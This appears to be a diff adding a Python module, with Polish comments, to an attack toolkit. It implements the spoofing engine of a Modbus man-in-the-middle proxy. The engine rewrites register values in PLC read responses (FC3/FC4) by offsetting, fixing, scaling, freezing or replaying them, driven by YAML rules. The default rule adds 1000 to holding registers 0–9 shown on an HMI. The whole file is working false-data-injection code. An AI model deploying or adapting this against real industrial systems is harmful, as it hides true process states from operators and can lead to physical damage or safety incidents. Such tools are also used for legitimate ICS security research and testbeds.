@@ -0,0 +1,284 @@
+# injector/attacks/proxy_rules.py
+"""
+Deklaratywne reguły spoofingu dla proxy, kompilowane przy starcie do tablic
+per adres i stosowane wektorowo (NumPy) do całego payloadu odpowiedzi FC3/FC4.
+
+YAML (sekcja spoof w config/plc_config.yaml):
+
+spoof:
+  rules:
+    - name: hmi_offset
+      registers: [[0, 9]]        # zakresy [od, do] włącznie albo pojedyncze adresy
+      unit_ids: [1]              # opcjonalnie (domyślnie każdy Unit ID)
+      functions: [3]             # 3 i/lub 4 (domyślnie [3])
+      transform: offset          # offset | constant | scale | freeze | replay
+      value: 1000                # offset / constant
+    - name: flow_scale
+      registers: [20, 21, [30, 39]]
+      transform: scale
+      factor: 0.5
+    - name: level_replay
+      registers: [[100, 149]]
+      transform: replay
+      history: 50                # replay: odtwarza wartość sprzed N odczytów
+
+Przy nakładających się regułach wygrywa późniejsza (kolejność z YAML).
+Koszt na ramkę zależy od liczby rejestrów w odpowiedzi, nie od liczby reguł.
+"""
+
+import logging
+import threading
+from dataclasses import dataclass
+from typing import Any, Dict, Iterable, List, Optional, Sequence, Tuple
+
+import numpy as np
+
+from injector.core.config import get_yaml_section
+
+log = logging.getLogger(__name__)
+
+ADDRESS_SPACE = 65536
+
+# kody akcji w tablicach
+_NONE, _OFFSET, _CONSTANT, _SCALE, _FREEZE, _REPLAY = range(6)
+TRANSFORMS = {"offset": _OFFSET, "constant": _CONSTANT, "scale": _SCALE, "freeze": _FREEZE, "replay": _REPLAY}
+_STATEFUL = (_FREEZE, _REPLAY)
+
+
+@dataclass(frozen=True)
+class SpoofRule:
+    name: str
+    ranges: Tuple[Tuple[int, int], ...]
+    transform: str = "offset"
+    value: int = 0
+    factor: float = 1.0
+    history: int = 50
+    unit_ids: Optional[Tuple[int, ...]] = None     # None = każdy Unit ID
+    functions: Tuple[int, ...] = (3,)
+
+
+# dotychczasowe zachowanie proxy: HR[0..9] += 1000
+DEFAULT_RULES: Tuple[SpoofRule, ...] = (
+    SpoofRule(name="hmi_offset", ranges=((0, 9),), transform="offset", value=1000),
+)
+
+
+def _ranges_from_yaml(raw: Iterable[Any]) -> Tuple[Tuple[int, int], ...]:
+    out: List[Tuple[int, int]] = []
+    for item in raw:
+        if isinstance(item, (list, tuple)):
+            lo, hi = int(item[0]), int(item[-1])
+        else:
+            lo = hi = int(item)
+        if lo > hi:
+            lo, hi = hi, lo
+        if lo < 0 or hi >= ADDRESS_SPACE:
+            raise ValueError(f"Register range out of bounds: {item!r}")
+        out.append((lo, hi))
+    return tuple(out)
+
+
+def rule_from_yaml(data: Dict[str, Any], index: int = 0) -> SpoofRule:
+    transform = str(data.get("transform", "offset"))
+    if transform not in TRANSFORMS:
+        raise ValueError(f"Unknown spoof transform: {transform}")
+    functions = tuple(int(f) for f in data.get("functions", [3]))
+    if any(f not in (3, 4) for f in functions):
+        raise ValueError(f"Spoof rules support only FC3/FC4, got {functions}")
+    unit_ids = data.get("unit_ids")
+    return SpoofRule(
+        name=str(data.get("name", f"rule{index:02d}")),
+        ranges=_ranges_from_yaml(data.get("registers", [])),
+        transform=transform,
+        value=int(data.get("value", 0)),
+        factor=float(data.get("factor", 1.0)),
+        history=max(1, int(data.get("history", 50))),
+        unit_ids=tuple(int(u) for u in unit_ids) if unit_ids else None,
+        functions=functions,
+    )
+
+
+def load_spoof_rules() -> Tuple[SpoofRule, ...]:
+    """Reguły z sekcji spoof.rules; bez niej - DEFAULT_RULES."""
+    section = get_yaml_section("spoof") or {}
+    raw = section.get("rules")
+    if not raw:
+        return DEFAULT_RULES
+    return tuple(rule_from_yaml(r or {}, i) for i, r in enumerate(raw))
+
+
+class _Table:
+    """Skompilowane reguły dla jednego (unit_id, function code)."""
+
+    def __init__(self):
+        self.action = np.zeros(ADDRESS_SPACE, dtype=np.uint8)
+        self.param = np.zeros(ADDRESS_SPACE, dtype=np.int64)
+        self.factor = np.ones(ADDRESS_SPACE, dtype=np.float64)
+        self.history_len = np.zeros(ADDRESS_SPACE, dtype=np.int64)
+        self.codes: Tuple[int, ...] = ()
+        self.lock: Optional[threading.Lock] = None
+
+        # stan freeze / replay (alokowany w finalize tylko gdy potrzebny)
+        self.frozen: Optional[np.ndarray] = None
+        self.frozen_set: Optional[np.ndarray] = None
+        self.slot: Optional[np.ndarray] = None
+        self.slot_history: Optional[np.ndarray] = None
+        self.ring: Optional[np.ndarray] = None
+        self.ring_pos: Optional[np.ndarray] = None
+        self.ring_filled: Optional[np.ndarray] = None
+
+    def add(self, rule: SpoofRule) -> None:
+        code = TRANSFORMS[rule.transform]
+        for lo, hi in rule.ranges:
+            sl = slice(lo, hi + 1)
+            self.action[sl] = code
+            self.param[sl] = rule.value
+            self.factor[sl] = rule.factor
+            self.history_len[sl] = rule.history if code == _REPLAY else 0
+
+    def finalize(self) -> None:
+        self.codes = tuple(int(c) for c in np.unique(self.action) if c != _NONE)
+        if _FREEZE in self.codes:
+            self.frozen = np.zeros(ADDRESS_SPACE, dtype=np.int64)
+            self.frozen_set = np.zeros(ADDRESS_SPACE, dtype=bool)
+        if _REPLAY in self.codes:
+            addrs = np.flatnonzero(self.action == _REPLAY)
+            self.slot = np.full(ADDRESS_SPACE, -1, dtype=np.int64)
+            self.slot[addrs] = np.arange(len(addrs))
+            self.slot_history = self.history_len[addrs]
+            self.ring = np.zeros((len(addrs), int(self.slot_history.max())), dtype=np.int64)
+            self.ring_pos = np.zeros(len(addrs), dtype=np.int64)
+            self.ring_filled = np.zeros(len(addrs), dtype=np.int64)
+        if any(c in _STATEFUL for c in self.codes):
+            self.lock = threading.Lock()
+
+    def apply(self, start: int, real: np.ndarray) -> Tuple[np.ndarray, int]:
+        end = start + len(real)
+        act = self.action[start:end]
+        hit = act != _NONE
+        n_hit = int(np.count_nonzero(hit))
+        if not n_hit:
+            return real, 0
+
+        out = real.copy()
+        for code in self.codes:
+            m = act == code if len(self.codes) > 1 else hit
+            if not m.any():
+                continue
+            if code == _OFFSET:
+                out[m] = (real[m] + self.param[start:end][m]) & 0xFFFF
+            elif code == _CONSTANT:
+                out[m] = self.param[start:end][m] & 0xFFFF
+            elif code == _SCALE:
+                out[m] = np.clip(np.rint(real[m] * self.factor[start:end][m]), 0, 0xFFFF)
+            elif code == _FREEZE:
+                frozen = self.frozen[start:end]
+                frozen_set = self.frozen_set[start:end]
+                first = m & ~frozen_set
+                frozen[first] = real[first]
+                frozen_set[first] = True
+                out[m] = frozen[m]
+            elif code == _REPLAY:
+                slots = self.slot[start:end][m]
+                pos = self.ring_pos[slots]
+                filled = self.ring_filled[slots]
+                old = self.ring[slots, pos]
+                hist = self.slot_history[slots]
+                out[m] = np.where(filled >= hist, old, real[m])
+                self.ring[slots, pos] = real[m]
+                self.ring_pos[slots] = (pos + 1) % hist
+                self.ring_filled[slots] = np.minimum(filled + 1, hist)
+        return out, n_hit
+
+
+class SpoofEngine:
+    """
+    Reguły skompilowane do tablic per (unit_id, FC). Tablice dla konkretnego
+    Unit ID zawierają też reguły bez unit_ids (w kolejności z YAML).
+    """
+
+    def __init__(self, rules: Sequence[SpoofRule]):
+        self.rules = tuple(rules)
+        self._tables: Dict[Tuple[Optional[int], int], _Table] = {}
+        self.functions: Tuple[int, ...] = tuple(sorted({f for r in self.rules for f in r.functions}))
+        units = sorted({u for r in self.rules if r.unit_ids for u in r.unit_ids})
+
+        for func in self.functions:
+            for unit in [None] + units:
+                table = _Table()
+                used = False
+                for rule in self.rules:
+                    if func not in rule.functions:
+                        continue
+                    if rule.unit_ids is None or (unit is not None and unit in rule.unit_ids):
+                        table.add(rule)
+                        used = True
+                if used:
+                    table.finalize()
+                    self._tables[(unit, func)] = table
+
+        self._lock = threading.Lock()
+        self.frames_spoofed = 0
+        self.registers_spoofed = 0
+        log.info("Spoof engine: %d rules compiled into %d tables (FC %s)",
+                 len(self.rules), len(self._tables), list(self.functions))
+
+    def table_for(self, unit_id: int, func: int) -> Optional[_Table]:
+        return self._tables.get((unit_id, func)) or self._tables.get((None, func))
+
+    def apply(self, buf: Any, data_off: int, count: int, unit_id: int, func: int, start_addr: int) -> int:
+        """
+        Nadpisuje w miejscu count rejestrów (big-endian) zaczynających się od buf[data_off],
+        odpowiadających adresom start_addr..; zwraca liczbę podmienionych rejestrów.
+        """
+        table = self.table_for(unit_id, func)
+        if table is None:
+            return 0
+        count = min(count, ADDRESS_SPACE - start_addr)
+        if count <= 0:
+            return 0
+        if not table.action[start_addr:start_addr + count].any():
+            return 0
+
+        regs = np.frombuffer(buf, dtype=">u2", count=count, offset=data_off)
+        real = regs.astype(np.int64)
+        if table.lock is not None:
+            with table.lock:
+                out, n_hit = table.apply(start_addr, real)
+        else:
+            out, n_hit = table.apply(start_addr, real)
+        regs[:] = out
+
+        with self._lock:
+            self.frames_spoofed += 1
+            self.registers_spoofed += n_hit
+        return n_hit
+
+    def stats(self) -> Dict[str, Any]:
+        return {
+            "rules": len(self.rules),
+            "tables": len(self._tables),
+            "functions": list(self.functions),
+            "addresses": {f"{u if u is not None else '*'}/fc{f}": int(np.count_nonzero(t.action))
+                          for (u, f), t in self._tables.items()},
+            "frames_spoofed": self.frames_spoofed,
+            "registers_spoofed": self.registers_spoofed,
+        }
+
+
+_ENGINE_CACHE: Optional[SpoofEngine] = None
+_ENGINE_LOCK = threading.Lock()
+
+
+def get_spoof_engine() -> SpoofEngine:
+    global _ENGINE_CACHE
+    with _ENGINE_LOCK:
+        if _ENGINE_CACHE is None:
+            _ENGINE_CACHE = SpoofEngine(load_spoof_rules())
+        return _ENGINE_CACHE
+
+
+def reset_spoof_engine() -> None:
+    global _ENGINE_CACHE
+    with _ENGINE_LOCK:
+        _ENGINE_CACHE = None